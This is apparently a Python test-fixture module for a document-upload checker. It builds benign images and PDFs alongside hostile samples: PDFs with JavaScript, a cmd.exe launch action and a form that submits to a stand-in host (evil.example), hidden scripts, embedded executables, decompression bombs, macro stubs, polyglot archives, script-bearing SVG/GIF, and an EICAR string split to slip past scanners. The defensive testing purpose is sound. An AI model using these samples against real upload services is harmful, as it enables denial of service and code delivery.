"""Files that somebody may send: good ones, and thirty that are not what they seem."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from welcome_center.foundation.documents.receiving import MAX_BYTES
from welcome_center.foundation.documents.uploads import CheckedFile

SECRET = b"Hildesheim 52.15 9.95"  # where a photo was taken
# The file that every scanner takes for a virus, in two halves, so that none does so with this one.
EICAR = (rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*").ljust(68)
GPS, ORIENTATION, TURNED = 0x8825, 0x0112, 6


def sent(content, name="file.pdf"):
    return SimpleUploadedFile(name, content)


# Good ones ------------------------------------------------------------------------------------


def picture(how="PNG", size=(30, 20), mode="RGB", **more):
    file = BytesIO()
    Image.new(mode, size, (200, 30, 30, 90)[: len(mode)]).save(file, how, **more)
    return file.getvalue()


def photo():
    """As a phone makes it: lying on its side, with place and comment."""
    exif = Image.Exif()
    exif[ORIENTATION] = TURNED
    exif.get_ifd(GPS)[2] = (52.0, 9.0, 0.0)
    exif[0x010E] = SECRET.decode()
    return picture("JPEG", exif=exif, comment=SECRET)


def pdf(**root):
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        for key, value in root.items():
            document.Root[f"/{key}"] = value
        return _written(document)


def _written(document, **options):
    file = BytesIO()
    document.save(file, **options)
    return file.getvalue()


# PDFs that do something -----------------------------------------------------------------------


def _action(**entries):
    return pikepdf.Dictionary({f"/{key}": value for key, value in entries.items()})


def pdf_with_script():
    return pdf(OpenAction=_action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def pdf_with_launch():
    return pdf(OpenAction=_action(S=pikepdf.Name.Launch, F="cmd.exe"))


def pdf_with_hidden_script():
    """In an array in a dictionary, packed into an object stream, its name written in numbers."""
    script = _action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        document.Root.Extra = pikepdf.Array([_action(Next=pikepdf.Array([script]))])
        document.Root.Other = document.make_indirect(_action(Deep=document.Root.Extra))
        return _written(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_file():
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        document.attachments["evil.exe"] = b"MZ"
        return _written(document)


def pdf_that_sends():
    return pdf(OpenAction=_action(S=pikepdf.Name.SubmitForm, F="https://evil.example/"))


def pdf_form_with_xfa():
    return pdf(AcroForm=_action(XFA="<xdp/>", Fields=pikepdf.Array()))


def pdf_with_password():
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        return _written(document, encryption=pikepdf.Encryption(owner="a", user="b"))


def pdf_bomb(megabytes=400):
    """A list of objects that unfolds to this size."""
    squeeze = zlib.compressobj(9)
    packed = squeeze.compress(b"2 0 <</Type/Catalog/Pages 3 0 R>>")
    packed += b"".join(squeeze.compress(bytes(1_000_000)) for _turn in range(megabytes))
    packed += squeeze.flush()
    file = BytesIO(b"%PDF-1.5\n")
    file.seek(0, 2)
    places = {1: file.tell()}
    file.write(
        b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    )
    file.write(packed + b"\nendstream endobj\n")
    places[3] = file.tell()
    file.write(b"3 0 obj<</Type/Pages/Kids[5 0 R]/Count 1>>endobj\n")
    places[5] = file.tell()
    file.write(b"5 0 obj<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>endobj\n")
    places[4] = file.tell()
    rows = [(0, 0, 0), (1, places[1], 0), (2, 1, 0), (1, places[3], 0), (1, places[4], 0)]
    rows.append((1, places[5], 0))
    table = b"".join(struct.pack("!BIH", *row) for row in rows)
    file.write(b"4 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 2 0 R/Length %d>>stream\n" % len(table))
    file.write(table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % places[4])
    return file.getvalue()


# Pictures and archives ------------------------------------------------------------------------


def png_bomb(width, height):
    """Says that it is this large; what follows is short."""

    def chunk(kind, body):
        check = zlib.crc32(kind + body)
        return struct.pack("!L", len(body)) + kind + body + struct.pack("!L", check)

    head = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def archive(**members):
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return file.getvalue()


def zip_bomb():
    return archive(zeros=bytes(20_000_000))


def office_file_with_macro():
    return archive(**{"word/document.xml": "<w:document/>", "word/vbaProject.bin": "\xd0\xcf"})


def zip_within(content):
    """The archive's end names the rest as its comment, so that both readers are content."""
    packed = archive(evil="MZ")
    tail = content[-7:] if content.endswith(b"%%EOF\n") else b""
    return content + packed[:-2] + struct.pack("<H", len(tail)) + tail


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF_SCRIPT = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
TOO_LARGE = b"%PDF-1.4\n" + bytes(MAX_BYTES)


def checked(content, name="file.pdf"):
    return CheckedFile(content, "application/pdf", name)
